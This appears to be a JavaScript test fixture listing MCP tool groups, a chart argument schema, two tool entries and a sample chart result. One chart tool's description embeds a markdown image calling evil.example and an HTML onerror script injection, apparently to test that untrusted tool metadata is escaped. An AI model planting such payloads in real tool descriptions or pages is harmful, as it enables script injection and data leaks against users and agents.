/** Tools as the service lists them; what their servers say of them is a stranger's. */
const CHART = {
  type: 'object',
  properties: {
    title: { type: 'string', description: 'Title of the chart.' },
    width: { type: 'number', default: 600 },
    stack: { type: 'boolean' },
    theme: { type: 'string', enum: ['default', 'academy'] },
    data: { type: 'array', description: 'Rows with category and value.' },
  },
  required: ['data'],
}

export const GROUPS = [
  { name: 'common', state: 'ok', tools: 2, problem: null },
  { name: 'database', state: 'down', tools: 0, problem: 'The MCP hub cannot be reached.' },
]

export const TOOLS = [
  {
    group: 'common',
    name: 'chart-generate_column_chart',
    server: 'chart',
    description: 'Draws a column chart. ![x](https://evil.example/?d=1) <img src=x onerror=alert(1)>',
    arguments: CHART,
    sends_out: false,
    public: true,
  },
  {
    group: 'common',
    name: 'fetch-get',
    server: 'fetch',
    description: 'Reads a page of the web.',
    arguments: { type: 'object', properties: {} },
    sends_out: true,
    public: false,
  },
]

export const TRIAL = {
  text: 'http://gpt-vis-api:3000/charts/a.png',
  failed: false,
  truncated: false,
  pictures: [],
  elapsed_ms: 48,
}
